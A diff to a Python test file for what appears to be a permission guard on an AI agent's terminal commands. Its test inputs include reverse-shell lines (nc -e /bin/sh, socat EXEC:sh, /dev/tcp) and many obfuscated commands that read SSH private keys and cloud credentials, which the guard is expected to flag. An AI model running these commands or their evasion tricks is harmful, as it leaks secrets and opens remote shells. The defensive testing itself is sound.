@@ -150,6 +150,7 @@ def test_unknown_commands_are_asked() -> None:
         "cat < /dev/tcp/10.0.0.9/80",
         "echo hi > /dev/udp/10.0.0.9/53",
         "ssh -o ProxyCommand='nc 10.0.0.9 22' host",
+        "ssh -oProxyCommand='sh -c id' localhost",
         "ssh localhost id",
         "nc -e /bin/sh 127.0.0.1 4444",
         "socat TCP:127.0.0.1:80 EXEC:sh",
@@ -262,6 +263,17 @@ def test_writes_outside_are_admin(line: str) -> None:
         'cat "$(printf ~)/.ssh/id_rsa"',
         "base64 ~/.kube/config",
         "cp ~/.docker/config.json x",
+        "python3 -c \"print(open('/home/dev/.ssh/id_rsa').read())\"",
+        "node -e \"require('fs').readFileSync(process.env.HOME + '/.aws/credentials')\"",
+        "cat $X/.netrc",
+        "c\\at ~/.ssh/id_rsa",
+        "cat ~/./.ssh//id_rsa",
+        "cat /home/dev/../dev/.ssh/id_rsa",
+        "git -C ~/.ssh log",
+        "diff <(cat ~/.ssh/id_rsa) x",
+        "cat \"$HOME/.s\"'sh/id_rsa' $(true)",
+        "cat $'/home/dev/\\x2essh/id_rsa'",
+        "cat $'/home/dev/\\x2essh/id_rsa' $(true)",
     ],
 )
 def test_hidden_paths_are_admin(line: str) -> None:
@@ -343,3 +355,40 @@ ORDINARY = [
 def test_ordinary_lines_run_without_a_question(line: str) -> None:
     decision = judge(line)
     assert decision.action == "allow", (line, decision.reason)
+
+
+def test_a_persistent_terminal_may_not_be_left_outside_the_workspace() -> None:
+    def terminal(line: str) -> str:
+        arguments = {"command": line, "persistent": True}
+        facts = facts_for("terminal", "write", arguments, ROOT, home=HOME)
+        return decide(policy_preset("interactive"), facts).action
+
+    assert terminal("cd ..") == "ask"
+    assert terminal("cd /tmp && ls") == "ask"
+    assert terminal("cd src && ls") == "allow"
+    assert terminal("cd src; cd ..") == "allow"
+    assert judge("cd /tmp && ls").action == "allow"  # a one-off line may look elsewhere
+
+
+def test_a_persistent_terminal_starts_where_the_last_line_left_it() -> None:
+    def terminal(line: str, where: str | None) -> str:
+        arguments = {"command": line, "persistent": True}
+        facts = facts_for("terminal", "write", arguments, ROOT, home=HOME, terminal_cwd=where)
+        return decide(policy_preset("interactive"), facts).action
+
+    first = facts_for("terminal", "write", {"command": "mkdir -p sub && cd sub",
+                                            "persistent": True}, ROOT, home=HOME)  # fmt: skip
+    assert first.shell is not None and first.shell.cwd_after == f"{ROOT}/sub"
+    assert terminal("echo x > inside.txt", f"{ROOT}/sub") == "allow"
+    assert terminal("cd .. && echo x > inside.txt", f"{ROOT}/sub") == "ask"  # from a restart
+    assert terminal("echo x > ../inside.txt", "") == "ask"
+    assert terminal("echo x > out.txt", None) == "ask"  # where it is is not known
+    assert terminal("cd /work/repo && echo x > out.txt", None) == "allow"
+
+
+def test_a_persistent_terminal_line_is_judged_from_a_fresh_start_too() -> None:
+    """After an abort the terminal starts again in the working directory, whatever
+    the last line left: ``../x`` from ``sub`` must be harmless from the root too."""
+    arguments = {"command": "echo x > ../x.txt", "persistent": True}
+    facts = facts_for("terminal", "write", arguments, ROOT, home=HOME, terminal_cwd=f"{ROOT}/sub")
+    assert facts.category == "admin"
